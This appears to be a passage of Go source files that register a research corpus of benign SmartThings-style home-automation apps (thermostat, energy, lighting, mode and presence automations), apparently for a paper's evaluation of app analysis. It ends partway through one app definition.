input "setpoint", "number", defaultValue: 68
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue < setpoint) {
        thermostat1.heat()
        thermostat1.setHeatingSetpoint(setpoint)
    }
}
`,
		"ACOffWhenWindowOpen": `
definition(name: "ACOffWhenWindowOpen", namespace: "store", author: "community",
    description: "Turn the air conditioner off while any window is open to stop wasting energy.",
    category: "Green Living")
input "windows", "capability.contactSensor", multiple: true
input "ac1", "capability.switch", title: "Air conditioner"
def installed() { subscribe(windows, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(windows, "contact.open", onOpen) }
def onOpen(evt) {
    ac1.off()
}
`,
		"MorningWarmup": `
definition(name: "MorningWarmup", namespace: "store", author: "community",
    description: "Turn the heater on early every morning so the kitchen is warm at breakfast.",
    category: "Climate Control")
input "heater1", "capability.switch", title: "Kitchen heater"
def installed() { schedule("0 0 6 * * ?", warmUp) }
def updated() { unschedule(); schedule("0 0 6 * * ?", warmUp) }
def warmUp() {
    heater1.on()
    runIn(5400, warmDone)
}
def warmDone() {
    heater1.off()
}
`,
		"NightCooldown": `
definition(name: "NightCooldown", namespace: "store", author: "community",
    description: "Lower the cooling setpoint when the home enters Night mode for better sleep.",
    category: "Climate Control")
input "thermostat1", "capability.thermostat"
input "sleepCool", "number", defaultValue: 66
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        thermostat1.cool()
        thermostat1.setCoolingSetpoint(sleepCool)
    }
}
`,
		"GreenhouseVent": `
definition(name: "GreenhouseVent", namespace: "store", author: "community",
    description: "Open the greenhouse vent valve above the high temperature and close it below the low one.",
    category: "Green Living")
input "tSensor", "capability.temperatureMeasurement"
input "vent1", "capability.valve", title: "Vent valve"
input "high", "number", defaultValue: 85
input "low", "number", defaultValue: 70
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > high) {
        vent1.open()
    } else if (evt.doubleValue < low) {
        vent1.close()
    }
}
`,
		"FrostProtect": `
definition(name: "FrostProtect", namespace: "store", author: "community",
    description: "Turn on the pipe heater whenever the garage temperature approaches freezing.",
    category: "Safety & Security")
input "tSensor", "capability.temperatureMeasurement", title: "Garage sensor"
input "heater1", "capability.switch", title: "Pipe heater"
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue < 36) {
        heater1.on()
    } else if (evt.doubleValue > 45) {
        heater1.off()
    }
}
`,
	})
}
