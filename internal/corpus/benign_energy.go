package corpus

// Energy-management apps. EnergySaver is named in Sec. VIII-B.

func init() {
	registerAll(Benign, map[string]string{
		"EnergySaver": `
definition(name: "EnergySaver", namespace: "store", author: "community",
    description: "Turn off a set of heavy appliance switches when real-time electricity usage exceeds your threshold.",
    category: "Green Living")
input "meter", "capability.powerMeter"
input "heavyLoads", "capability.switch", multiple: true, title: "Heavy loads"
input "maxW", "number", title: "Maximum watts", defaultValue: 3000
def installed() { subscribe(meter, "power", onPower) }
def updated() { unsubscribe(); subscribe(meter, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue > maxW) {
        heavyLoads.off()
    }
}
`,
		"PowerAllowance": `
definition(name: "PowerAllowance", namespace: "store", author: "community",
    description: "Whenever this switch turns on, turn it back off after a configured number of minutes.",
    category: "Green Living")
input "switch1", "capability.switch"
input "minutes1", "number", title: "Minutes", defaultValue: 30
def installed() { subscribe(switch1, "switch.on", onOn) }
def updated() { unsubscribe(); subscribe(switch1, "switch.on", onOn) }
def onOn(evt) {
    runIn(60 * minutes1, offAgain)
}
def offAgain() {
    switch1.off()
}
`,
		"StandbyKiller": `
definition(name: "StandbyKiller", namespace: "store", author: "community",
    description: "Cut power to the entertainment outlet when its draw falls to standby levels.",
    category: "Green Living")
input "meter", "capability.powerMeter", title: "Outlet meter"
input "outlet1", "capability.switch", title: "Entertainment outlet"
input "standbyW", "number", defaultValue: 15
def installed() { subscribe(meter, "power", onPower) }
def updated() { unsubscribe(); subscribe(meter, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue < standbyW) {
        outlet1.off()
    }
}
`,
		"LaundryMonitor": `
definition(name: "LaundryMonitor", namespace: "store", author: "community",
    description: "Flash a light and send a text when the washing machine finishes (power draw drops).",
    category: "Convenience")
input "meter", "capability.powerMeter", title: "Washer meter"
input "light1", "capability.switch", title: "Signal light"
input "phone1", "phone"
def installed() { subscribe(meter, "power", onPower) }
def updated() { unsubscribe(); subscribe(meter, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue < 10 && state.wasRunning == 1) {
        state.wasRunning = 0
        light1.on()
        sendSms(phone1, "Laundry is done")
    } else if (evt.doubleValue > 300) {
        state.wasRunning = 1
    }
}
`,
		"OutletTimer": `
definition(name: "OutletTimer", namespace: "store", author: "community",
    description: "Turn the block heater outlet on and off on a fixed daily schedule.",
    category: "Green Living")
input "outlet1", "capability.switch", title: "Block heater outlet"
def installed() { initialize() }
def updated() { unschedule(); initialize() }
def initialize() {
    schedule("0 0 5 * * ?", morningOn)
    schedule("0 0 8 * * ?", morningOff)
}
def morningOn() { outlet1.on() }
def morningOff() { outlet1.off() }
`,
		"CoffeeAfterShower": `
definition(name: "CoffeeAfterShower", namespace: "store", author: "community",
    description: "Start the coffee maker when bathroom humidity spikes from your morning shower.",
    category: "Convenience")
input "humSensor", "capability.relativeHumidityMeasurement", title: "Bathroom humidity"
input "coffee1", "capability.switch", title: "Coffee maker"
def installed() { subscribe(humSensor, "humidity", onHumidity) }
def updated() { unsubscribe(); subscribe(humSensor, "humidity", onHumidity) }
def onHumidity(evt) {
    if (evt.integerValue > 70) {
        coffee1.on()
        runIn(1200, coffeeOff)
    }
}
def coffeeOff() {
    coffee1.off()
}
`,
		"TVOffAtBedtime": `
definition(name: "TVOffAtBedtime", namespace: "store", author: "community",
    description: "Turn the TV off when the home enters Night mode.",
    category: "Green Living")
input "tv1", "capability.switch", title: "TV"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        tv1.off()
    }
}
`,
		"ApplianceNanny": `
definition(name: "ApplianceNanny", namespace: "store", author: "community",
    description: "Turn the iron outlet off when its vibration sensor has been still for fifteen minutes.",
    category: "Safety & Security")
input "vibration1", "capability.accelerationSensor", title: "Iron vibration sensor"
input "outlet1", "capability.switch", title: "Iron outlet"
def installed() { subscribe(vibration1, "acceleration.inactive", onStill) }
def updated() { unsubscribe(); subscribe(vibration1, "acceleration.inactive", onStill) }
def onStill(evt) {
    runIn(900, cutPower)
}
def cutPower() {
    if (vibration1.currentAcceleration == "inactive") {
        outlet1.off()
    }
}
`,
		"VampireSlayer": `
definition(name: "VampireSlayer", namespace: "store", author: "community",
    description: "Kill vampire loads: switch the charger outlets off when total draw is low at night.",
    category: "Green Living")
input "meter", "capability.powerMeter"
input "chargers", "capability.switch", multiple: true, title: "Charger outlets"
def installed() { subscribe(meter, "power", onPower) }
def updated() { unsubscribe(); subscribe(meter, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue < 50 && location.mode == "Night") {
        chargers.off()
    }
}
`,
		"DryerDoneLight": `
definition(name: "DryerDoneLight", namespace: "store", author: "community",
    description: "Turn the hallway light on when the dryer's energy meter stops climbing.",
    category: "Convenience")
input "energy1", "capability.energyMeter", title: "Dryer meter"
input "light1", "capability.switch", title: "Hallway light"
def installed() { runEvery5Minutes(checkDryer) }
def updated() { unschedule(); runEvery5Minutes(checkDryer) }
def checkDryer() {
    def e = energy1.currentValue("energy")
    if (e == state.lastEnergy && state.running == 1) {
        state.running = 0
        light1.on()
    }
    if (e != state.lastEnergy) {
        state.running = 1
    }
    state.lastEnergy = e
}
`,
		"PeakHoursShed": `
definition(name: "PeakHoursShed", namespace: "store", author: "community",
    description: "Shed the pool pump and water heater during expensive afternoon peak hours.",
    category: "Green Living")
input "pump1", "capability.switch", title: "Pool pump"
input "waterHeater1", "capability.switch", title: "Water heater"
def installed() { initialize() }
def updated() { unschedule(); initialize() }
def initialize() {
    schedule("0 0 16 * * ?", shed)
    schedule("0 0 20 * * ?", restore)
}
def shed() {
    pump1.off()
    waterHeater1.off()
}
def restore() {
    pump1.on()
    waterHeater1.on()
}
`,
		"FanWithHeater": `
definition(name: "FanWithHeater", namespace: "store", author: "community",
    description: "Run the ceiling fan on low whenever the heater runs, to spread the warm air.",
    category: "Climate Control")
input "heater1", "capability.switch", title: "Heater"
input "fan1", "capability.switch", title: "Ceiling fan"
def installed() { subscribe(heater1, "switch", onHeater) }
def updated() { unsubscribe(); subscribe(heater1, "switch", onHeater) }
def onHeater(evt) {
    if (evt.value == "on") {
        fan1.on()
    } else {
        fan1.off()
    }
}
`,
		"BatterySaverCamera": `
definition(name: "BatterySaverCamera", namespace: "store", author: "community",
    description: "Turn the battery camera off when its battery is nearly empty.",
    category: "Green Living")
input "battery1", "capability.battery", title: "Camera battery"
input "camera1", "capability.videoCamera"
def installed() { subscribe(battery1, "battery", onBattery) }
def updated() { unsubscribe(); subscribe(battery1, "battery", onBattery) }
def onBattery(evt) {
    if (evt.integerValue < 10) {
        camera1.off()
    }
}
`,
		"EnergyAllowanceDaily": `
definition(name: "EnergyAllowanceDaily", namespace: "store", author: "community",
    description: "Switch the gaming outlet off once it consumes its daily energy allowance.",
    category: "Green Living")
input "energy1", "capability.energyMeter", title: "Gaming outlet meter"
input "outlet1", "capability.switch", title: "Gaming outlet"
input "allowance", "number", title: "Daily kWh x100", defaultValue: 150
def installed() { subscribe(energy1, "energy", onEnergy) }
def updated() { unsubscribe(); subscribe(energy1, "energy", onEnergy) }
def onEnergy(evt) {
    if (evt.doubleValue > allowance) {
        outlet1.off()
    }
}
`,
		"WhiteNoiseAtNight": `
definition(name: "WhiteNoiseAtNight", namespace: "store", author: "community",
    description: "Play the white-noise speaker in Night mode and stop it in the morning.",
    category: "Health & Wellness")
input "speaker1", "capability.musicPlayer", title: "Bedroom speaker"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        speaker1.play()
    } else {
        speaker1.stop()
    }
}
`,
	})
}
