package corpus

// Lighting-automation apps. LetThereBeDark, UndeadEarlyWarning,
// LightsOffWhenClosed, SmartNightlight, TurnItOnFor5Minutes,
// LightUpTheNight and CurlingIron are named in the paper's evaluation.

func init() {
	registerAll(Benign, map[string]string{
		"LetThereBeDark": `
definition(name: "LetThereBeDark", namespace: "store", author: "community",
    description: "Turn your lights off when a door closes and back on when it opens.",
    category: "Convenience")
input "contact1", "capability.contactSensor", title: "Which door?"
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(contact1, "contact", contactHandler)
}
def contactHandler(evt) {
    if (evt.value == "open") {
        lights.on()
    } else {
        lights.off()
    }
}
`,
		"UndeadEarlyWarning": `
definition(name: "UndeadEarlyWarning", namespace: "store", author: "community",
    description: "Turn on the lights when the basement door opens so nothing undead surprises you.",
    category: "Fun & Social")
input "door1", "capability.contactSensor", title: "Basement door"
input "lights", "capability.switch", title: "Warning lights", multiple: true
def installed() { subscribe(door1, "contact.open", doorOpen) }
def updated() { unsubscribe(); subscribe(door1, "contact.open", doorOpen) }
def doorOpen(evt) {
    lights.on()
}
`,
		"LightsOffWhenClosed": `
definition(name: "LightsOffWhenClosed", namespace: "store", author: "community",
    description: "Turn lights off when the door is closed.",
    category: "Green Living")
input "door1", "capability.contactSensor"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(door1, "contact.closed", doorClosed) }
def updated() { unsubscribe(); subscribe(door1, "contact.closed", doorClosed) }
def doorClosed(evt) {
    lights.off()
}
`,
		"SmartNightlight": `
definition(name: "SmartNightlight", namespace: "store", author: "community",
    description: "Turn the nightlight on when there is motion in the dark and off shortly after motion stops.",
    category: "Convenience")
input "motion1", "capability.motionSensor"
input "luxSensor", "capability.illuminanceMeasurement"
input "light1", "capability.switch", title: "Nightlight"
input "darkLux", "number", title: "Dark below (lux)", defaultValue: 30
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(motion1, "motion", motionHandler)
}
def motionHandler(evt) {
    if (evt.value == "active") {
        def lux = luxSensor.currentValue("illuminance")
        if (lux < darkLux) {
            light1.on()
        }
    } else {
        runIn(120, lightOff)
    }
}
def lightOff() {
    light1.off()
}
`,
		"TurnItOnFor5Minutes": `
definition(name: "TurnItOnFor5Minutes", namespace: "store", author: "community",
    description: "When a contact opens, turn a light switch on for five minutes and then turn it off.",
    category: "Convenience")
input "contact1", "capability.contactSensor"
input "switch1", "capability.switch", title: "Light switch"
def installed() { subscribe(contact1, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", onOpen) }
def onOpen(evt) {
    switch1.on()
    runIn(300, offAgain)
}
def offAgain() {
    switch1.off()
}
`,
		"LightUpTheNight": `
definition(name: "LightUpTheNight", namespace: "store", author: "community",
    description: "Keep the room lit: lights go on when it gets dark and off when it gets bright.",
    category: "Convenience")
input "luxSensor", "capability.illuminanceMeasurement"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(luxSensor, "illuminance", luxHandler) }
def updated() { unsubscribe(); subscribe(luxSensor, "illuminance", luxHandler) }
def luxHandler(evt) {
    if (evt.integerValue < 30) {
        lights.on()
    } else if (evt.integerValue > 50) {
        lights.off()
    }
}
`,
		"BrightenMyPath": `
definition(name: "BrightenMyPath", namespace: "store", author: "community",
    description: "Turn the hallway light on when motion is detected.",
    category: "Convenience")
input "motion1", "capability.motionSensor"
input "light1", "capability.switch", title: "Hallway light"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    light1.on()
}
`,
		"DarkenBehindMe": `
definition(name: "DarkenBehindMe", namespace: "store", author: "community",
    description: "Turn the light off as soon as motion stops.",
    category: "Green Living")
input "motion1", "capability.motionSensor"
input "light1", "capability.switch"
def installed() { subscribe(motion1, "motion.inactive", onStop) }
def updated() { unsubscribe(); subscribe(motion1, "motion.inactive", onStop) }
def onStop(evt) {
    light1.off()
}
`,
		"EveningLightsSchedule": `
definition(name: "EveningLightsSchedule", namespace: "store", author: "community",
    description: "Turn the porch light on every evening and off every night on a fixed schedule.",
    category: "Convenience")
input "light1", "capability.switch", title: "Porch light"
def installed() { initialize() }
def updated() { unschedule(); initialize() }
def initialize() {
    schedule("0 0 19 * * ?", eveningOn)
    schedule("0 0 23 * * ?", nightOff)
}
def eveningOn() { light1.on() }
def nightOff() { light1.off() }
`,
		"DoubleTapToggle": `
definition(name: "DoubleTapToggle", namespace: "store", author: "community",
    description: "Toggle a group of lights each time the button is pushed.",
    category: "Convenience")
input "button1", "capability.button"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(button1, "button.pushed", onPush) }
def updated() { unsubscribe(); subscribe(button1, "button.pushed", onPush) }
def onPush(evt) {
    if (state.lastOn == 1) {
        lights.off()
        state.lastOn = 0
    } else {
        lights.on()
        state.lastOn = 1
    }
}
`,
		"GentleWakeUp": `
definition(name: "GentleWakeUp", namespace: "store", author: "community",
    description: "Slowly brighten the bedroom dimmer light in the morning to wake you up gently.",
    category: "Health & Wellness")
input "dimmer1", "capability.switchLevel", title: "Bedroom dimmer"
input "startLevel", "number", title: "Start level", defaultValue: 10
def installed() { schedule("0 30 6 * * ?", wakeUp) }
def updated() { unschedule(); schedule("0 30 6 * * ?", wakeUp) }
def wakeUp() {
    dimmer1.setLevel(startLevel)
    runIn(600, fullBright)
}
def fullBright() {
    dimmer1.setLevel(100)
}
`,
		"SunsetLights": `
definition(name: "SunsetLights", namespace: "store", author: "community",
    description: "Turn the garden lights on at sunset.",
    category: "Convenience")
input "lights", "capability.switch", multiple: true, title: "Garden lights"
def installed() { subscribe(location, "sunset", atSunset) }
def updated() { unsubscribe(); subscribe(location, "sunset", atSunset) }
def atSunset(evt) {
    lights.on()
}
`,
		"VacancyLightsOff": `
definition(name: "VacancyLightsOff", namespace: "store", author: "community",
    description: "Turn every light off when motion stops while the home is in Away mode.",
    category: "Green Living")
input "motion1", "capability.motionSensor"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(motion1, "motion.inactive", onQuiet) }
def updated() { unsubscribe(); subscribe(motion1, "motion.inactive", onQuiet) }
def onQuiet(evt) {
    if (location.mode == "Away") {
        lights.off()
    }
}
`,
		"CurlingIron": `
definition(name: "CurlingIron", namespace: "store", author: "community",
    description: "Turn on the curling iron outlets when you get up and off again after thirty minutes.",
    category: "Convenience")
input "motion1", "capability.motionSensor", title: "Bathroom motion"
input "outlets", "capability.switch", multiple: true, title: "Curling iron outlets"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    outlets.on()
    runIn(1800, ironOff)
}
def ironOff() {
    outlets.off()
}
`,
		"ShadesAtNoon": `
definition(name: "ShadesAtNoon", namespace: "store", author: "community",
    description: "Close the window shades when the midday sun makes the room too bright.",
    category: "Comfort")
input "luxSensor", "capability.illuminanceMeasurement"
input "shades", "capability.windowShade", multiple: true
input "brightLux", "number", title: "Too bright above", defaultValue: 5000
def installed() { subscribe(luxSensor, "illuminance", onLux) }
def updated() { unsubscribe(); subscribe(luxSensor, "illuminance", onLux) }
def onLux(evt) {
    if (evt.integerValue > brightLux) {
        shades.close()
    } else if (evt.integerValue < 200) {
        shades.open()
    }
}
`,
	})
}
