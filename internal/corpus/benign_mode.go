package corpus

// Mode-automation apps plus the three special-case apps of Sec. VIII-B:
// FeedMyPet (device.petfeedershield), SleepyTime (device.jawboneUser) and
// CameraPowerScheduler (the undocumented runDaily API).

func init() {
	registerAll(Benign, map[string]string{
		"BonVoyage": `
definition(name: "BonVoyage", namespace: "store", author: "community",
    description: "Set the home to Away mode when everyone has left.",
    category: "Mode Magic")
input "everyone", "capability.presenceSensor", multiple: true
def installed() { subscribe(everyone, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(everyone, "presence.not present", onLeave) }
def onLeave(evt) {
    setLocationMode("Away")
}
`,
		"RiseAndShine": `
definition(name: "RiseAndShine", namespace: "store", author: "community",
    description: "Switch the home to Home mode at the first morning motion.",
    category: "Mode Magic")
input "motion1", "capability.motionSensor", title: "Kitchen motion"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (location.mode == "Night") {
        setLocationMode("Home")
    }
}
`,
		"GoodNightMode": `
definition(name: "GoodNightMode", namespace: "store", author: "community",
    description: "Enter Night mode after the house has been still for a while in the evening.",
    category: "Mode Magic")
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.inactive", onQuiet) }
def updated() { unsubscribe(); subscribe(motion1, "motion.inactive", onQuiet) }
def onQuiet(evt) {
    runIn(1800, maybeSleep)
}
def maybeSleep() {
    if (motion1.currentMotion == "inactive" && location.mode == "Home") {
        setLocationMode("Night")
    }
}
`,
		"BigTurnOff": `
definition(name: "BigTurnOff", namespace: "store", author: "community",
    description: "Turn every selected switch off when the home leaves Home mode.",
    category: "Mode Magic")
input "switches", "capability.switch", multiple: true
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value != "Home") {
        switches.off()
    }
}
`,
		"BigTurnOn": `
definition(name: "BigTurnOn", namespace: "store", author: "community",
    description: "Turn the welcome switches on when the home returns to Home mode.",
    category: "Mode Magic")
input "switches", "capability.switch", multiple: true, title: "Welcome switches"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Home") {
        switches.on()
    }
}
`,
		"ScheduledModeChange": `
definition(name: "ScheduledModeChange", namespace: "store", author: "community",
    description: "Put the home into Night mode at a fixed time every evening.",
    category: "Mode Magic")
input "targetMode", "enum", options: ["Home", "Away", "Night"], defaultValue: "Night"
def installed() { schedule("0 30 22 * * ?", changeMode) }
def updated() { unschedule(); schedule("0 30 22 * * ?", changeMode) }
def changeMode() {
    setLocationMode(targetMode)
}
`,
		"SleepyTime": `
definition(name: "SleepyTime", namespace: "store", author: "community",
    description: "Enter Night mode and dim the lights when your sleep tracker says you fell asleep.",
    category: "Health & Wellness")
input "sleepTracker", "device.jawboneUser", title: "Sleep tracker"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(sleepTracker, "sleeping.sleeping", onSleep) }
def updated() { unsubscribe(); subscribe(sleepTracker, "sleeping.sleeping", onSleep) }
def onSleep(evt) {
    setLocationMode("Night")
    lights.off()
}
`,
		"FeedMyPet": `
definition(name: "FeedMyPet", namespace: "store", author: "community",
    description: "Feed your pet on schedule with a pet feeder shield.",
    category: "Pets")
input "feeder", "device.petfeedershield", title: "Pet feeder"
def installed() { schedule("0 0 8 * * ?", feedTime) }
def updated() { unschedule(); schedule("0 0 8 * * ?", feedTime) }
def feedTime() {
    feeder.on()
    runIn(30, feedDone)
}
def feedDone() {
    feeder.off()
}
`,
		"CameraPowerScheduler": `
definition(name: "CameraPowerScheduler", namespace: "store", author: "community",
    description: "Power the camera outlet on and off every day using a daily schedule.",
    category: "Safety & Security")
input "cameraOutlet", "capability.switch", title: "Camera outlet"
def installed() { initialize() }
def updated() { unschedule(); initialize() }
def initialize() {
    runDaily(camOn)
    schedule("0 0 23 * * ?", camOff)
}
def camOn() { cameraOutlet.on() }
def camOff() { cameraOutlet.off() }
`,
		"VacationSimulator": `
definition(name: "VacationSimulator", namespace: "store", author: "community",
    description: "While you are away, turn living-room lights on each evening and off later to simulate occupancy.",
    category: "Safety & Security")
input "lights", "capability.switch", multiple: true, title: "Living room lights"
def installed() { initialize() }
def updated() { unschedule(); initialize() }
def initialize() {
    schedule("0 15 19 * * ?", eveningShow)
    schedule("0 45 22 * * ?", eveningEnd)
}
def eveningShow() {
    if (location.mode == "Away") {
        lights.on()
    }
}
def eveningEnd() {
    if (location.mode == "Away") {
        lights.off()
    }
}
`,
		"WelcomeHome": `
definition(name: "WelcomeHome", namespace: "store", author: "community",
    description: "When you arrive: switch to Home mode, unlock the door and light the entry.",
    category: "Convenience")
input "presence1", "capability.presenceSensor"
input "lock1", "capability.lock", title: "Entry lock"
input "entryLight", "capability.switch", title: "Entry light"
def installed() { subscribe(presence1, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) {
    setLocationMode("Home")
    lock1.unlock()
    entryLight.on()
}
`,
		"ModeBasedShades": `
definition(name: "ModeBasedShades", namespace: "store", author: "community",
    description: "Close the window shades in Night mode and reopen them in Home mode.",
    category: "Mode Magic")
input "shades", "capability.windowShade", multiple: true
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        shades.close()
    } else if (evt.value == "Home") {
        shades.open()
    }
}
`,
		"CurfewCheck": `
definition(name: "CurfewCheck", namespace: "store", author: "community",
    description: "If the home is not in Night mode by curfew, set it and lock the doors.",
    category: "Mode Magic")
input "locks", "capability.lock", multiple: true
def installed() { schedule("0 0 0 * * ?", curfew) }
def updated() { unschedule(); schedule("0 0 0 * * ?", curfew) }
def curfew() {
    if (location.mode != "Night") {
        setLocationMode("Night")
        locks.lock()
    }
}
`,
		"WeekendSleepIn": `
definition(name: "WeekendSleepIn", namespace: "store", author: "community",
    description: "Keep Night mode until a later hour and hold the shades closed for weekend sleep-ins.",
    category: "Mode Magic")
input "shades", "capability.windowShade", multiple: true
input "wakeDay", "enum", options: ["Saturday", "Sunday"], defaultValue: "Sunday"
def installed() { schedule("0 0 9 * * ?", lateWake) }
def updated() { unschedule(); schedule("0 0 9 * * ?", lateWake) }
def lateWake() {
    if (location.mode == "Night") {
        setLocationMode("Home")
        shades.open()
    }
}
`,
		"GuestMode": `
definition(name: "GuestMode", namespace: "store", author: "community",
    description: "Tap the app to enter guest mode: unlock the door, light the porch and disarm the siren.",
    category: "Convenience")
input "lock1", "capability.lock"
input "porchLight", "capability.switch", title: "Porch light"
input "siren1", "capability.alarm"
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    lock1.unlock()
    porchLight.on()
    siren1.off()
}
`,
	})
}
