package corpus

// Presence, arrival and miscellaneous comfort apps completing the 90-app
// population.

func init() {
	registerAll(Benign, map[string]string{
		"GreetingsEarthling": `
definition(name: "GreetingsEarthling", namespace: "store", author: "community",
    description: "Change the home mode when someone arrives.",
    category: "Mode Magic")
input "people", "capability.presenceSensor", multiple: true
input "arriveMode", "enum", options: ["Home", "Away", "Night"], defaultValue: "Home"
def installed() { subscribe(people, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(people, "presence.present", onArrive) }
def onArrive(evt) {
    setLocationMode(arriveMode)
}
`,
		"PorchLightGreeter": `
definition(name: "PorchLightGreeter", namespace: "store", author: "community",
    description: "Turn the porch light on when you arrive after dark, and off fifteen minutes later.",
    category: "Convenience")
input "presence1", "capability.presenceSensor"
input "luxSensor", "capability.illuminanceMeasurement"
input "porchLight", "capability.switch", title: "Porch light"
def installed() { subscribe(presence1, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) {
    if (luxSensor.currentIlluminance < 100) {
        porchLight.on()
        runIn(900, lightOff)
    }
}
def lightOff() {
    porchLight.off()
}
`,
		"EveryoneOutHeatDown": `
definition(name: "EveryoneOutHeatDown", namespace: "store", author: "community",
    description: "Drop the heating setpoint when the last person leaves home.",
    category: "Green Living")
input "people", "capability.presenceSensor", multiple: true
input "thermostat1", "capability.thermostat"
input "ecoHeat", "number", defaultValue: 58
def installed() { subscribe(people, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", onLeave) }
def onLeave(evt) {
    thermostat1.setHeatingSetpoint(ecoHeat)
}
`,
		"TVOffWhenAlone": `
definition(name: "TVOffWhenAlone", namespace: "store", author: "community",
    description: "Turn the TV off when the last person leaves the house.",
    category: "Green Living")
input "people", "capability.presenceSensor", multiple: true
input "tv1", "capability.switch", title: "TV"
def installed() { subscribe(people, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", onLeave) }
def onLeave(evt) {
    tv1.off()
}
`,
		"ArrivalHotWater": `
definition(name: "ArrivalHotWater", namespace: "store", author: "community",
    description: "Switch the water heater on half an hour before your usual arrival.",
    category: "Convenience")
input "waterHeater1", "capability.switch", title: "Water heater"
def installed() { schedule("0 30 16 * * ?", preheat) }
def updated() { unschedule(); schedule("0 30 16 * * ?", preheat) }
def preheat() {
    waterHeater1.on()
}
`,
		"WorkoutFan": `
definition(name: "WorkoutFan", namespace: "store", author: "community",
    description: "Start the gym fan when motion begins in the workout room and stop it when you finish.",
    category: "Health & Wellness")
input "motion1", "capability.motionSensor", title: "Gym motion"
input "fan1", "capability.switch", title: "Gym fan"
def installed() { subscribe(motion1, "motion", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
def onMotion(evt) {
    if (evt.value == "active") {
        fan1.on()
    } else {
        runIn(600, fanOff)
    }
}
def fanOff() {
    if (motion1.currentMotion == "inactive") {
        fan1.off()
    }
}
`,
		"OvenWatchdog": `
definition(name: "OvenWatchdog", namespace: "store", author: "community",
    description: "Turn the oven outlet off if everyone leaves while it is still on.",
    category: "Safety & Security")
input "people", "capability.presenceSensor", multiple: true
input "oven1", "capability.switch", title: "Oven outlet"
def installed() { subscribe(people, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", onLeave) }
def onLeave(evt) {
    if (oven1.currentSwitch == "on") {
        oven1.off()
    }
}
`,
		"MovieTime": `
definition(name: "MovieTime", namespace: "store", author: "community",
    description: "Tap the app for movie time: dim the lights, close the shades, turn the TV on.",
    category: "Entertainment")
input "dimmer1", "capability.switchLevel", title: "Living room dimmer"
input "shades", "capability.windowShade", multiple: true
input "tv1", "capability.switch", title: "TV"
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    dimmer1.setLevel(15)
    shades.close()
    tv1.on()
}
`,
		"BrightDay": `
definition(name: "BrightDay", namespace: "store", author: "community",
    description: "Turn interior lights off whenever daylight makes them unnecessary.",
    category: "Green Living")
input "luxSensor", "capability.illuminanceMeasurement"
input "lights", "capability.switch", multiple: true
input "daylight", "number", defaultValue: 800
def installed() { subscribe(luxSensor, "illuminance", onLux) }
def updated() { unsubscribe(); subscribe(luxSensor, "illuminance", onLux) }
def onLux(evt) {
    if (evt.integerValue > daylight) {
        lights.off()
    }
}
`,
		"ColorMoodLight": `
definition(name: "ColorMoodLight", namespace: "store", author: "community",
    description: "Warm up the color temperature of the bulbs in the evening hours.",
    category: "Comfort")
input "bulbs", "capability.colorTemperature", multiple: true
def installed() { schedule("0 0 20 * * ?", eveningWarm) }
def updated() { unschedule(); schedule("0 0 20 * * ?", eveningWarm) }
def eveningWarm() {
    bulbs.setColorTemperature(2700)
}
`,
		"TheBigSwitch": `
definition(name: "TheBigSwitch", namespace: "store", author: "community",
    description: "Follow a master switch: when it turns on or off, a group of other switches follows.",
